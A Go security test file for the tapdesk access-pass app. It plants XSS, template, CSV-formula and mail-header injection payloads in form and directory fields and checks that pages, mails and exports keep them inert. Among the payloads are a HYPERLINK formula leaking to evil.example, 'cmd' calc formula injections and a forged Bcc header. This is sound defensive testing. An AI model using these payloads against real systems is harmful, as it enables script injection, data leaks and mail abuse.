package main

import (
	"bufio"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"golang.org/x/net/html"

	"github.com/tapdesk/tapdesk/entra/fakegraph"
	"github.com/tapdesk/tapdesk/signin/demoidp"
)

// xssPayloads are what an attacker types into free text or gets into the
// directory. Each fits a ticket reference (64 characters on one line);
// text-direction and zero-width characters are left out because tapdesk
// refuses them outright (hidden_text_test.go).
var xssPayloads = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`javascript:alert(1)`,
	`"><svg onload=alert(1)>`,
	`'-alert(1)-'`,
	`</script><script>alert(1)</script>`,
	`<!--<script>alert(1)//-->`,
	"`${alert(1)}`",
	`{{.}}{{template "x"}}{{ alert(1) }}`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`,
	`=HYPERLINK("http://evil.example/?leak","click")`,
	`+1+cmd|'/C calc'!A0`,
	`-2+3+cmd|'/C calc'!A0`,
	`@SUM(1+1)*cmd|'/C calc'!A0`,
	`<a href="javascript:alert(1)">x</a>`,
	`http://evil.example/"onmouseover="alert(1)`,
	`&lt;b&gt;pre-escaped&lt;/b&gt; &amp; &#x3C;i&#x3E;`,
	`<style>*{display:none}</style><base href=//evil.example>`,
}

// xssAll is every payload in one string, for the long free-text fields.
var xssAll = strings.Join(xssPayloads, " | ")

// xssRequesters file the requests, few enough each to stay inside the
// per-person filing and reveal limits.
var xssRequesters = []demoidp.Persona{
	{Key: "xss1", Name: "Xena Filer", UPN: "xena.filer@contoso.example", Email: "xena.filer@contoso.example",
		ObjectID: "11111111-1111-4111-8111-0000000000a1", Roles: []string{"Tap.Requester"}},
	{Key: "xss2", Name: "Yuri Filer", UPN: "yuri.filer@contoso.example", Email: "yuri.filer@contoso.example",
		ObjectID: "11111111-1111-4111-8111-0000000000a2", Roles: []string{"Tap.Requester"}},
}

// xssCheck counts what was checked, for the report.
type xssCheck struct {
	mu       sync.Mutex
	surfaces map[string]bool
	checks   int
}

func (x *xssCheck) saw(surface string, n int) {
	x.mu.Lock()
	defer x.mu.Unlock()
	x.surfaces[surface] = true
	x.checks += n
}

// nonceOf returns the CSP nonce a page was sent with.
var cspNonce = regexp.MustCompile(`'nonce-([^']+)'`)

// assertInert fails on anything inertProblems finds in a page.
func assertInert(t *testing.T, x *xssCheck, surface string, res *http.Response, body string) {
	t.Helper()
	problems, n := inertProblems(res.Header.Get("Content-Security-Policy"), body)
	for _, p := range problems {
		t.Errorf("%s: %s", surface, p)
	}
	x.saw(surface, n)
}

// inertProblems parses an HTML page and lists anything a payload could have
// injected: a script that is not tapdesk's own (its nonce and a /static/
// source), an on* attribute, a javascript:, vbscript: or data: link, an
// element no tapdesk page has (svg, iframe, base, style, object, embed,
// img, math), or a comment carrying a payload. It also returns how many
// elements it looked at.
func inertProblems(csp, body string) (problems []string, elements int) {
	nonce := ""
	if m := cspNonce.FindStringSubmatch(csp); m != nil {
		nonce = m[1]
	}
	root, err := html.Parse(strings.NewReader(body))
	if err != nil {
		return []string{err.Error()}, 0
	}
	bad := func(format string, args ...any) { problems = append(problems, fmt.Sprintf(format, args...)) }
	var walk func(*html.Node)
	walk = func(nd *html.Node) {
		switch nd.Type {
		case html.CommentNode:
			if strings.Contains(nd.Data, "alert") || strings.Contains(nd.Data, "script") {
				bad("a payload opened a comment: <!--%s-->", nd.Data)
			}
		case html.ElementNode:
			elements++
			switch nd.Data {
			case "script":
				src, got := attr(nd, "src"), attr(nd, "nonce")
				if !strings.HasPrefix(src, "/static/") || nonce == "" || got != nonce {
					bad("a script that is not tapdesk's (src %q, nonce %q, page nonce %q)", src, got, nonce)
				}
			case "svg", "iframe", "base", "style", "object", "embed", "img", "math":
				bad("an injected <%s> element", nd.Data)
			}
			for _, a := range nd.Attr {
				k := strings.ToLower(a.Key)
				if strings.HasPrefix(k, "on") {
					bad("an event handler attribute %s=%q on <%s>", a.Key, a.Val, nd.Data)
				}
				switch k {
				case "href", "src", "action", "formaction", "xlink:href":
					v := strings.ToLower(strings.TrimSpace(a.Val))
					for _, scheme := range []string{"javascript:", "vbscript:", "data:"} {
						if strings.HasPrefix(v, scheme) {
							bad("<%s %s=%q>", nd.Data, a.Key, a.Val)
						}
					}
				}
			}
		}
		for c := nd.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(root)
	return problems, elements
}

// TestInertProblemsSeesInjection: the checker the XSS test relies on finds
// each payload that breaks out of HTML when it is pasted unescaped, in
// text and in an attribute, so its silence on tapdesk's pages means
// something.
func TestInertProblemsSeesInjection(t *testing.T) {
	const csp = "script-src 'self' 'nonce-abc'"
	page := func(s string) string {
		return `<!doctype html><html><head><script src="/static/app.js" nonce="abc"></script></head><body>` + s + `</body></html>`
	}
	if p, _ := inertProblems(csp, page(`<p>`+html.EscapeString(xssAll)+`</p><a href="/x?q=`+html.EscapeString(xssAll)+`">x</a>`)); len(p) != 0 {
		t.Fatalf("escaped payloads reported: %q", p)
	}
	text := []string{xssPayloads[0], xssPayloads[1], xssPayloads[3], xssPayloads[5], xssPayloads[6], xssPayloads[14], xssPayloads[17]}
	for _, p := range text {
		if got, _ := inertProblems(csp, page(`<p>`+p+`</p>`)); len(got) == 0 {
			t.Errorf("unescaped in text, %q goes unseen", p)
		}
	}
	for _, p := range []string{xssPayloads[3], xssPayloads[15]} {
		if got, _ := inertProblems(csp, page(`<a href="/x" title="`+p+`">x</a>`)); len(got) == 0 {
			t.Errorf("unescaped in an attribute, %q goes unseen", p)
		}
	}
	if got, _ := inertProblems(csp, page(`<a href="`+xssPayloads[2]+`">x</a>`)); len(got) == 0 {
		t.Errorf("a javascript: link goes unseen")
	}
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// assertShown checks the page shows each text as text: escaped, not
// dropped. What people typed must reach the approver as typed.
func assertShown(t *testing.T, surface string, doc *goquery.Document, texts ...string) {
	t.Helper()
	all := doc.Text()
	for _, s := range texts {
		if !strings.Contains(all, s) {
			t.Errorf("%s does not show %q as text", surface, s)
		}
	}
}

// xssTarget is a directory user whose every text field holds payloads.
type xssTarget struct {
	id, upn string
	payload string // the payload its fields start with
}

// TestXSSPayloads puts the payload set in every free-text field a person
// enters and every directory field the fake Graph holds, drives the whole
// flow (file, approve by link, deny, reveal, revoke, dispute landing, audit
// list and filters, exports, verify, demo mailbox), and checks every page,
// mail and export: nothing injected, CSV cells neutralised, JSON Lines
// valid with the strings intact. A headless Chromium then proves no script
// runs on the request page and the audit list.
func TestXSSPayloads(t *testing.T) {
	d := startTestDemoWith(t, func(o *demoOptions) { o.Personas = append(o.Personas, xssRequesters...) })
	x := &xssCheck{surfaces: map[string]bool{}}
	tenant := d.fake.Tenant()

	// The directory: a manager and one target per payload, every text field
	// a payload. One target's name tries to break out of a mail header.
	mgrID := "22222222-2222-4222-8222-0000000000ff"
	if err := tenant.AddUser(fakegraph.User{ID: mgrID, DisplayName: xssAll[:200], GivenName: xssPayloads[1], Surname: xssPayloads[3],
		UserPrincipalName: "xss.manager@contoso.example", Mail: "xss.manager@contoso.example", JobTitle: xssPayloads[0],
		Department: xssPayloads[10], AccountEnabled: true}); err != nil {
		t.Fatal(err)
	}
	var targets []xssTarget
	for i, p := range xssPayloads {
		tg := xssTarget{id: fmt.Sprintf("22222222-2222-4222-8222-%012d", i+1), upn: fmt.Sprintf("xss.target%02d@contoso.example", i+1), payload: p}
		name := p + " " + xssPayloads[(i+1)%len(xssPayloads)]
		if i == 0 {
			name = p + "\r\nBcc: attacker@evil.example\r\nX-Injected: yes"
		}
		if i == 4 {
			// A UPN and mail address that break out of an attribute (the
			// fake holds what Entra would refuse; the card is opened by id).
			tg.upn = `o'neil"><svg/onload=alert(1)>@contoso.example`
		}
		if err := tenant.AddUser(fakegraph.User{ID: tg.id, DisplayName: name, GivenName: p, Surname: p, UserPrincipalName: tg.upn, Mail: tg.upn,
			JobTitle: p, Department: p, OfficeLocation: p, MobilePhone: p, AccountEnabled: true, Manager: mgrID}); err != nil {
			t.Fatal(err)
		}
		targets = append(targets, tg)
	}

	filers := []*browser{d.browser(t), d.browser(t), d.browser(t), d.browser(t)}
	filers[0].signIn("/", "agent")
	filers[1].signIn("/", "agent2")
	filers[2].signIn("/", "xss1")
	filers[3].signIn("/", "xss2")
	visit := func(b *browser, surface, path string, want int) *goquery.Document {
		t.Helper()
		b.get(path).status(want)
		assertInert(t, x, surface, b.last, b.body)
		return b.doc()
	}

	// The search query, each payload (a directory search with quotes and
	// brackets in it must not fail either).
	t.Run("search", func(t *testing.T) {
		for _, p := range xssPayloads {
			doc := visit(filers[0].with(t), "user search", "/users?q="+url.QueryEscape(p), http.StatusOK)
			if v, _ := doc.Find(`input[name="q"]`).Attr("value"); v != p {
				t.Errorf("the search box holds %q, want %q", v, p)
			}
		}
		// Directory names in the results.
		visit(filers[0].with(t), "user search results", "/users?q=xss.target", http.StatusOK)
	})

	// File one request per target, every free-text field led by its payload
	// (so the CSV export has cells that start with it) and holding them all.
	type filed struct {
		path  string
		filer *browser
		tg    xssTarget
	}
	var reqs []filed
	t.Run("file", func(t *testing.T) {
		for i, tg := range targets {
			b := filers[i%len(filers)].with(t)
			doc := visit(b, "user card", "/users/"+tg.id, http.StatusOK)
			assertShown(t, "user card", doc, tg.payload)
			visit(b, "request form", "/requests/new?user="+tg.id, http.StatusOK)
			b.submit(`form[action="/requests"]`, url.Values{
				"ticket_ref": {tg.payload}, "justification": {tg.payload + " | " + xssAll},
				"verification": {"callback"}, "verification_note": {tg.payload + " | " + xssAll},
				"lifetime": {"60"}, "usable_once": {"on"},
			})
			if !strings.HasPrefix(b.path(), "/requests/") || b.last.StatusCode != http.StatusOK {
				t.Fatalf("filing for %s: %d at %s\n%s", tg.upn, b.last.StatusCode, b.path(), b.body)
			}
			assertInert(t, x, "request page (requester)", b.last, b.body)
			assertShown(t, "request page", b.doc(), tg.payload, xssAll, tg.upn)
			reqs = append(reqs, filed{b.path(), filers[i%len(filers)], tg})
		}
	})
	if t.Failed() {
		t.FailNow()
	}

	// The approver follows each approval link; even requests are approved,
	// odd ones denied with a reason made of payloads. One denial first
	// comes back refused (a hidden character) with what was typed.
	approver := d.browser(t)
	approver.signIn("/", "approver")
	t.Run("decide", func(t *testing.T) {
		links := map[string]string{} // request path -> approval link
		for deadline := time.Now().Add(30 * time.Second); len(links) < len(reqs); time.Sleep(20 * time.Millisecond) {
			if time.Now().After(deadline) {
				t.Fatalf("approval mails for %d of %d requests", len(links), len(reqs))
			}
			for _, m := range mailsTo(d.capture, "avery.approver@contoso.example", "Approval needed") {
				if l := approveLink.FindString(m.Text); l != "" && !contains(links, l) {
					a := approver.with(t).get(l).status(http.StatusOK)
					links[a.path()] = l
					assertInert(t, x, "request page (approver, by link)", a.last, a.body)
				}
			}
		}
		for i, r := range reqs {
			a := approver.with(t)
			a.get(r.path).status(http.StatusOK)
			if i%2 == 0 {
				a.submit(`form[action$="/approve"]`, nil).status(http.StatusOK)
				assertInert(t, x, "request page (approved)", a.last, a.body)
				continue
			}
			if i == 1 {
				a.submit(`form[action$="/deny"]`, url.Values{"reason": {xssAll + "\u200b"}}).status(http.StatusUnprocessableEntity)
				assertInert(t, x, "request page (deny refused)", a.last, a.body)
				if got := a.doc().Find(`textarea[name="reason"]`).Text(); got != xssAll+"\u200b" {
					t.Errorf("the refused reason did not come back as typed: %q", got)
				}
			}
			a.submit(`form[action$="/deny"]`, url.Values{"reason": {r.tg.payload + " | " + xssAll}}).status(http.StatusOK)
			assertInert(t, x, "request page (denied)", a.last, a.body)
			assertShown(t, "denied request page", a.doc(), r.tg.payload+" | "+xssAll)
		}
		visit(approver.with(t), "dashboard (approver)", "/", http.StatusOK)
	})

	// The requesters reveal the approved passes and revoke half of them.
	t.Run("reveal and revoke", func(t *testing.T) {
		for i, r := range reqs {
			if i%2 != 0 {
				continue
			}
			b := r.filer.with(t)
			b.get(r.path).status(http.StatusOK)
			b.submit(`form[action$="/reveal"]`, nil).status(http.StatusOK)
			assertInert(t, x, "reveal page", b.last, b.body)
			if i%4 == 0 {
				visit(b, "request page (issued)", r.path, http.StatusOK)
				b.submit(`form[action$="/revoke"]`, nil).status(http.StatusOK)
				assertInert(t, x, "request page (revoked)", b.last, b.body)
			}
		}
		for _, f := range filers {
			visit(f.with(t), "dashboard (requester)", "/", http.StatusOK)
		}
	})

	// The target's "This wasn't me" landing shows the directory name,
	// the requester and the ticket.
	t.Run("dispute landing", func(t *testing.T) {
		anon := d.browser(t)
		for _, r := range reqs[:4] {
			m := waitMail(t, d.capture, r.tg.upn, requestedSubject)
			l := disputeLink.FindString(m.Text)
			if l == "" {
				t.Fatalf("no dispute link in the notice to %s", r.tg.upn)
			}
			res := anon.with(t).get(l)
			assertInert(t, x, "dispute landing", res.last, res.body)
		}
	})

	// The auditor: the list, the filters (free text echoed back into the
	// form and the export links), verify, and both exports.
	auditor := d.browser(t)
	auditor.signIn("/", "auditor")
	t.Run("audit", func(t *testing.T) {
		a := auditor.with(t)
		visit(a, "dashboard (auditor)", "/", http.StatusOK)
		visit(a, "audit list", "/audit", http.StatusOK)
		for _, r := range reqs {
			visit(a, "request page (auditor)", r.path, http.StatusOK)
		}
		for _, p := range xssPayloads[:6] {
			q := url.Values{"activity": {p}, "actor": {p}, "target": {p}, "request": {p}}
			doc := visit(a, "audit list (filtered)", "/audit?"+q.Encode(), http.StatusOK)
			if v, _ := doc.Find(`input[name="actor"]`).Attr("value"); v != p {
				t.Errorf("the actor filter holds %q, want %q", v, p)
			}
		}
		visit(a, "audit list (bad filter)", "/audit?from="+url.QueryEscape(xssPayloads[3]), http.StatusUnprocessableEntity)
		visit(a, "audit verify", "/audit/verify", http.StatusOK)
	})

	t.Run("exports", func(t *testing.T) {
		a := auditor.with(t)
		a.get("/audit/export?format=csv").status(http.StatusOK)
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatalf("the CSV export does not parse: %v", err)
		}
		cells := 0
		joined := ""
		for _, row := range rows {
			for _, c := range row {
				cells++
				tr := strings.TrimLeft(c, " \n")
				if tr != "" && strings.ContainsRune("=+-@\t\r", rune(tr[0])) {
					t.Errorf("CSV cell starts with a formula sign: %q", c)
				}
				joined += strings.TrimPrefix(c, "'") + "\n"
			}
		}
		for _, p := range xssPayloads {
			if !strings.Contains(joined, p) {
				t.Errorf("the CSV export lost %q", p)
			}
		}
		x.saw("CSV export", cells)

		a.get("/audit/export?format=jsonl").status(http.StatusOK)
		var strs []string
		lines := 0
		sc := bufio.NewScanner(strings.NewReader(a.body))
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			lines++
			var v any
			if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
				t.Fatalf("JSON Lines line %d is not JSON: %v\n%s", lines, err, sc.Text())
			}
			strs = collectStrings(v, strs)
		}
		all := strings.Join(strs, "\n")
		for _, p := range xssPayloads {
			if !strings.Contains(all, p) {
				t.Errorf("the JSON Lines export does not hold %q intact", p)
			}
		}
		x.saw("JSON Lines export", lines)
	})

	// Mail: the header-breaking name added no header or recipient, and any
	// HTML part is as inert as the pages.
	t.Run("mail", func(t *testing.T) {
		msgs := d.capture.Messages()
		for _, m := range msgs {
			for _, to := range m.To {
				if strings.Contains(to, "evil.example") {
					t.Errorf("mail %q went to %s", m.Subject, to)
				}
			}
			head, _, _ := strings.Cut(string(m.Raw), "\r\n\r\n")
			for _, line := range strings.Split(head, "\r\n") {
				if strings.HasPrefix(line, "Bcc:") || strings.HasPrefix(line, "X-Injected:") {
					t.Errorf("mail %q carries an injected header %q", m.Subject, line)
				}
			}
			if m.HTML != "" {
				assertInert(t, x, "mail HTML part", &http.Response{Header: http.Header{}}, m.HTML)
			}
		}
		x.saw("mail (text and headers)", len(msgs))

		visit(d.browser(t), "demo mailbox", "/demo/mailbox", http.StatusOK)
	})

	// A real browser: no alert, no dialog, no console error (a script the
	// CSP blocked is one) on the request page and the audit list.
	t.Run("browser", func(t *testing.T) {
		exe := chromium(t)
		for _, v := range []struct {
			persona string
			paths   []string
		}{
			{"auditor", []string{"/audit", reqs[1].path}},
			{"approver", []string{reqs[0].path, "/demo/mailbox"}},
		} {
			ctx := newTab(t, exe)
			var mu sync.Mutex
			var dialogs []string
			if err := chromedp.Listen(ctx, func(ev any) {
				if e, ok := ev.(*page.EventJavascriptDialogOpening); ok {
					mu.Lock()
					dialogs = append(dialogs, e.Message)
					mu.Unlock()
					go chromedp.Do(ctx, chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
						_, err := cdp.Call(ctx, tg, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
						return err
					}))
				}
			}); err != nil {
				t.Fatal(err)
			}
			// The hook runs before any page script and outside the CSP: a
			// payload that runs calls it.
			do(t, ctx, chromedp.Func(func(ctx context.Context, tg *chromedp.Target) error {
				_, err := cdp.Call(ctx, tg, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: `window.__xss = 0;
for (const f of ["alert", "confirm", "prompt"]) { window[f] = () => { window.__xss++; }; }`})
				return err
			}))
			for i, path := range v.paths {
				if i == 0 {
					signInAs(t, ctx, d.baseURL+path, v.persona) // comes back to path
				} else {
					do(t, ctx, chromedp.Navigate(d.baseURL+path), chromedp.WaitVisible(`[data-testid="whoami"]`))
				}
				if u := get(t, ctx, chromedp.Location()); u != d.baseURL+path {
					t.Fatalf("the browser is at %s, want %s", u, path)
				}
				// The hook is in place (so 0 means no payload ran).
				if typ := get(t, ctx, chromedp.Evaluate[string](`typeof window.__xss`)); typ != "number" {
					t.Fatalf("the alert hook is not installed on %s: %s", path, typ)
				}
				if ran := get(t, ctx, chromedp.Evaluate[int](`window.__xss`)); ran != 0 {
					t.Errorf("%s as %s: a payload ran %d times", path, v.persona, ran)
				}
				x.saw("browser: "+path, 1)
			}
			mu.Lock()
			if len(dialogs) > 0 {
				t.Errorf("as %s: dialogs opened: %q", v.persona, dialogs)
			}
			mu.Unlock()
		}
	})

	t.Logf("XSS: %d payloads × %d free-text fields (ticket, justification, caller note, deny reason, search, 4 audit filters) and %d directory fields (name, given name, surname, department, job title, office, phone, manager's name, UPN and mail) across %d surfaces; %d elements/cells/lines/mails checked",
		len(xssPayloads), 9, 10, len(x.surfaces), x.checks)
}

func contains(m map[string]string, v string) bool {
	for _, x := range m {
		if x == v {
			return true
		}
	}
	return false
}

// collectStrings gathers every string in a decoded JSON value.
func collectStrings(v any, out []string) []string {
	switch v := v.(type) {
	case string:
		out = append(out, v)
	case []any:
		for _, e := range v {
			out = collectStrings(e, out)
		}
	case map[string]any:
		for _, e := range v {
			out = collectStrings(e, out)
		}
	}
	return out
}
